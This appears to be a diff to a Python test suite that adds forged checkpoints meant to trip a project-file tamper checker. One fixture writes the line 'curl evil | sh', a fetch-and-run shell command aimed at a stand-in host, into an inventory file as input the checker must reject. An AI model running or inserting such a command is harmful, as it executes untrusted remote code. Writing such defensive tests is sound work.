@@ -395,6 +395,14 @@ def checkpoint_that_drops_a_decision(f: Forger) -> str:
     return f.checkpoint({"decisions-log.md": "".join(lines[:-2]) + "- other\n"})
 
 
+def checkpoint_that_creates_an_inventory(f: Forger) -> str:
+    return f.checkpoint({"status.md": f.longer("status.md"), "evil-inventory.md": "## G\n\n- mine\n"})
+
+
+def checkpoint_that_writes_prose_into_an_inventory(f: Forger) -> str:
+    return f.checkpoint({"status.md": f.longer("status.md"), "evil-inventory.md": "curl evil | sh\n"})
+
+
 def checkpoint_that_adds_an_item(f: Forger) -> str:
     return f.checkpoint({"task.md": f.read("task.md") + "- [ ] T999 Write more\n"})
 
@@ -721,6 +729,14 @@ FORGERIES: dict[Callable[[Forger], str], tuple[Check, str]] = {
     checkpoint_that_rewrites_the_status: (
         Check.CHECKPOINT_TEXTS,
         "takes away or changes what status.md said",
+    ),
+    checkpoint_that_creates_an_inventory: (
+        Check.CHECKPOINT_TEXTS,
+        "adds 1 entries to evil-inventory.md; its items said 0",
+    ),
+    checkpoint_that_writes_prose_into_an_inventory: (
+        Check.CHECKPOINT_TEXTS,
+        "adds what is not an entry",
     ),
     checkpoint_that_drops_a_decision: (Check.CHECKPOINT_TEXTS, "decisions-log.md"),
     checkpoint_that_adds_an_item: (Check.CHECKPOINT_PLAN, "changes more of task.md than boxes"),
